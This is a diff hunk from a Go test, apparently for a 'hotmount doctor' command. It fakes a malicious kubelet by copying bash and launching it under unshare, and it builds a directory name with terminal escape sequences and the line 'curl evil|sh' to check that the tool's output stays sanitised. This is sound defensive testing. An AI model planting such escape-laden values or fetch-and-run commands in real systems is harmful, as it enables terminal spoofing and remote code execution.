@@ -272,7 +272,7 @@ func TestDoctorSystem(t *testing.T) {
 		mkdir -p /opt/evil; cp /usr/bin/bash /opt/evil/kubelet; dir=$(printf '/opt/evil/\033[2J\nnothing found\n  curl evil|sh'); mkdir -p "$dir"
 		(echo $BASHPID >/run/evil.pid; exec unshare -Urm /opt/evil/kubelet -c 'sleep infinity; :' "--root-dir=$dir") </dev/null >/run/evil.log 2>&1 &
 		started evil kubelet; grep -q '^CapEff:.*ffff' /proc/$(cat /run/evil.pid)/status`)
-	if r, code := m.examined(); code != "0" || !strings.Contains(words(r), "does not treat it as a kubelet (number of such processes: 1)") {
+	if r, code := m.examined(); code != "0" || !strings.Contains(words(r), "so hotmount ignores the process (number of such processes: 1)") {
 		t.Errorf("exit code %s\n%s", code, words(r))
 	}
 	if out := m.run("hotmount doctor"); strings.ContainsAny(out, "\x1b") || strings.Contains(out, "curl") {
